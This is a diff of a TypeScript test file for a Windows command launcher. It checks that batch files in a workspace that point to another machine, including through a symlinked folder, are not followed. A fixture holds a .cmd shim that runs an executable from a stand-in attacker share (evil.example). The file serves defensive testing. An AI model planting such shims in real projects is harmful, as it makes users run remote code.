@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
+import { symlink } from 'node:fs/promises';
 import path from 'node:path';
 import type { AppError } from '../../../src/base/errors.ts';
 import type { DefinitionScope } from '../../../src/contract/definitionSchemas.ts';
@@ -22,7 +23,6 @@ const files: Readonly<Record<string, string>> = {
   'C:\\bin\\other.cmd': '@echo off\r\necho %*\r\n',
   'C:\\repo\\.bin\\tool.cmd': shim('zkochan-cmd-shim-9.0.7', 'cli-nodepath'),
   'C:\\repo\\tool\\bin\\cli.js': '',
-  'C:\\repo\\.bin\\far.cmd': '@"%~dp0\\..\\..\\..\\far\\x.exe" %*',
 };
 const context: LaunchContext = {
   folders: [{ name: 'shop', path: folder }],
@@ -127,12 +127,30 @@ describe('A launch on Windows', () => {
   });
 
   it('looks at nothing on another machine that a batch file of a workspace leads to', async () => {
-    const disk = windowsDisk({ 'C:\\bin\\far.cmd': '@"\\\\evil.example\\share\\x.exe" %*', 'C:\\bin\\x.exe': '' });
-    const launch = await prepare({ command: 'far' }, { disk }, 'workspace');
+    const named = windowsDisk({ 'C:\\bin\\far.cmd': '@"\\\\evil.example\\share\\x.exe" %*' });
+    const launch = await prepare({ command: 'far' }, { disk: named }, 'workspace');
     assert.equal(launch.batchFile?.isRun, true, 'it is not followed');
-    assert.deepEqual(
-      disk.asked.filter((file) => file.startsWith('\\\\')),
-      [],
-    );
+    // A folder that is a link: this machine's disk stands for the other's.
+    await symlink('\\\\evil.example\\share', path.join(folder, 'C:\\linked'));
+    const linked = windowsDisk({ 'C:\\bin\\far.cmd': '@"C:\\linked\\x.exe" %*', 'C:\\linked\\x.exe': '' });
+    const here = process.cwd();
+    process.chdir(folder);
+    try {
+      await assert.rejects(prepare({ command: 'far' }, { disk: linked }, 'workspace'), { code: 'definitions.otherMachine' });
+    } finally {
+      process.chdir(here);
+    }
+    for (const { asked } of [named, linked]) {
+      assert.deepEqual(
+        asked.filter((file) => /^\\\\|linked/.test(file)),
+        [],
+      );
+    }
+  });
+
+  it('follows a batch file on a share that the person’s own PATH names', async () => {
+    const disk = windowsDisk({ '\\\\corp\\tools\\own.cmd': '@"%~dp0\\own.exe" %*', '\\\\corp\\tools\\own.exe': '' });
+    const launch = await prepare({ command: 'own' }, { disk, path: '\\\\corp\\tools' }, 'workspace');
+    assert.equal(launch.executable, '\\\\corp\\tools\\own.exe');
   });
 });
